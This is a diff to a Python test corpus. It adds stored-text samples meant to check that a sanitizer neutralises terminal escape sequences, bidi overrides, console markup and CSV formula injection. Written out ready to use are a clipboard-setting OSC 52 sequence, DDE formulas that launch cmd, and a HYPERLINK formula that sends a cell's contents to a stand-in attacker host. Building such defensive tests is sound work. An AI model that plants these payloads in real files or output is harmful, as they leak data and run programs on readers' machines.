@@ -1173,6 +1173,42 @@ INVALID_SEARCH: list[tuple[str, str, str | None]] = [
 ]
 
 
+# --------------------------------------------------------------------------- stored text
+
+#: Text that reached storage (another front end, an older version, a direct write to a
+#: team's PostgreSQL, a file name, a network event) and is printed later, to whoever looks:
+#: (id, text, what it does printed as it is). core/sanitize.py shows every control
+#: character as an escape, the console never reads it as markup, and a CSV cell starting
+#: with a formula character is quoted. ``shown`` is what an operator must see instead.
+STORED_TEXT: list[dict[str, str]] = [
+    {"id": "osc52-clipboard", "text": "batch \x1b]52;c;ZXZpbA==\x07.csv",
+     "does": "OSC 52: sets the reader's clipboard", "shown": "\\e]52;c;ZXZpbA==\\x07"},
+    {"id": "osc0-title", "text": "\x1b]0;owned\x07 title",
+     "does": "OSC 0: sets the terminal's window title", "shown": "\\e]0;owned\\x07"},
+    {"id": "csi-clear", "text": "\x1b[2J\x1b[H cleared",
+     "does": "CSI: clears the screen, moves the cursor home", "shown": "\\e[2J\\e[H"},
+    {"id": "c1-csi", "text": "c1 \x9b31m red",
+     "does": "the C1 CSI: an escape sequence without ESC", "shown": "\\x9b31m"},
+    {"id": "bidi-override", "text": "invoice \u202efdp.exe",
+     "does": "RLO: the text reads backwards (exe.pdf)", "shown": "\\u202efdp.exe"},
+    {"id": "markup-close", "text": "Truck [/] 7",
+     "does": "console markup: a closing tag with nothing open (MarkupError)",
+     "shown": "Truck [/] 7"},
+    {"id": "markup-action", "text": "[@click=app.quit]quit[/]",
+     "does": "console markup: a clickable action", "shown": "[@click=app.quit]"},
+    {"id": "markup-style", "text": "[bold red]ALERT",
+     "does": "console markup: restyles what follows", "shown": "[bold red]ALERT"},
+    {"id": "formula-hyperlink", "text": '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
+     "does": "a spreadsheet formula sending a cell away", "shown": "=HYPERLINK("},
+    {"id": "formula-dde", "text": "+cmd|'/C calc'!A0",
+     "does": "a DDE formula starting a program", "shown": "+cmd|'/C calc'!A0"},
+    {"id": "formula-at", "text": "@SUM(1+1)*cmd|' /C calc'!A0",
+     "does": "a formula after @", "shown": "@SUM(1+1)"},
+    {"id": "formula-minus", "text": "-1+1+cmd|' /C calc'!A0",
+     "does": "a formula after -", "shown": "-1+1"},
+]
+
+
 def all_cases() -> dict[str, list[Any]]:
     """Every case of the corpus, by category."""
     return {
@@ -1181,4 +1217,5 @@ def all_cases() -> dict[str, list[Any]]:
         "CSV files": CSV_CASES,
         "search strings": SEARCH_CASES,
         "invalid search tokens": INVALID_SEARCH,
+        "stored text": STORED_TEXT,
     }
